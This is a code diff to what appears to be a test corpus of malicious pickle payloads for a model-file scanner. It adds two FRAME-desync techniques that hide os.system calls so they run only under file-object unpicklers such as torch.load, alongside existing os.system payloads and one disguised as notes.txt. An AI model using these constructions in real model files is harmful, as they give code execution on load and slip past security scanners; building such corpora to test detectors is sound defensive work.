@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import functools
 import pickle
+import struct
 import subprocess
 import zlib
 from collections.abc import Callable
@@ -143,6 +144,36 @@ def _corrupt_after_payload(canary: Canary) -> bytes:
     return payload + b"\xff\xfe garbage that is not an opcode \x00\x01"
 
 
+def frame_desync(hidden: bytes, linear_value: str = "weights") -> bytes:
+    """A pickle whose ``hidden`` opcodes run only under a file-object unpickler.
+
+    A BINUNICODE argument crosses the end of its FRAME: ``pickle.loads`` reads the argument
+    linearly (the hidden opcodes are then data of a BINBYTES it skips), while the C unpickler
+    reading a file object (``pickle.load(file)``, ``torch.load`` of ``data.pkl`` from a
+    ``BytesIO``) drops the 6 frame bytes left and reads the argument from after the frame, then
+    continues with ``hidden`` (which starts by popping that string and ends with STOP).
+    """
+    junk = b"ab"
+    declared = len(junk) + 6  # file reading: the string is junk, POP, BINBYTES and its length
+    frame = b"X" + struct.pack("<I", declared) + b"frame!"
+    after = (junk + b"0" + b"B" + struct.pack("<I", len(hidden)) + hidden + b"0"
+             + text(linear_value) + b".")
+    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after
+
+
+def _frame_desync_call(canary: Canary) -> bytes:
+    return frame_desync(b"0" + _os_system_pickle(canary)[2:])
+
+
+def _frame_desync_next_load(canary: Canary) -> bytes:
+    """A pickle stops inside its FRAME: a file-object unpickler's next load starts after it."""
+    visible = text("weights") + b"." + pickle.dumps({"bias": 0.5}, protocol=2)
+    filler = b"\x00" * 9000  # past what a buffered file peeks: the frame is read whole
+    frame = visible + filler
+    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
+            + _os_system_pickle(canary))
+
+
 PAYLOADS: list[PicklePayload] = [
     PicklePayload("os-system-proto0", "GLOBAL os.system + REDUCE, text protocol 0",
                   lambda c: assemble(Call(Global("os", "system"), (c.shell,)), protocol=0)),
@@ -266,6 +297,11 @@ PAYLOADS: list[PicklePayload] = [
     PicklePayload("appended-second-pickle", "payload appended after a benign pickle", _appended),
     PicklePayload("corrupt-after-payload", "stream corrupted right after the REDUCE",
                   _corrupt_after_payload),
+    PicklePayload("frame-desync-file-object", "a string crosses its FRAME end: the call runs "
+                  "only under pickle.load of an unbuffered file or BytesIO (torch.load)",
+                  _frame_desync_call),
+    PicklePayload("frame-desync-next-load", "STOP inside a FRAME: the next load of a file "
+                  "object reads a payload after the frame", _frame_desync_next_load),
     PicklePayload("headerless-proto0-txt", "header-less protocol-0 pickle named .txt",
                   lambda c: assemble(Call(Global("os", "system"), (c.shell,)), 0),
                   filename="notes.txt"),
